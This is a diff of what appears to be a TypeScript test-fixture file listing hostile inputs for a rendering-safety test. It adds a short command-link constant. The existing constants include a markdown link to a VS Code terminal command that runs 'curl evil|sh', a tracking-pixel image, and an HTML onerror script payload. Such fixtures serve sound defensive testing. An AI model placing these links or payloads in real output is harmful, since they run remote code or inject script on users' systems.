@@ -17,6 +17,8 @@ export type HostileCase = (typeof HOSTILE_CASES)[number];
 
 /** What an attacker would like to see rendered as a link or as HTML. */
 export const COMMAND_LINK = '[Retry](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20evil%7Csh%5Cn%22%7D)';
+/** Short enough for a saved query's name (at most 100 characters). */
+export const COMMAND_NAME = '[Retry](command:workbench.action.terminal.sendSequence?%7B%7D)';
 export const IMAGE_LINK = '![x](https://tracker.example/pixel.png)';
 export const HTML_PAYLOAD = '<img src=x onerror="alert(1)">';
 export const HOSTILE_TEXT = `${COMMAND_LINK} ${IMAGE_LINK} ${HTML_PAYLOAD}`;
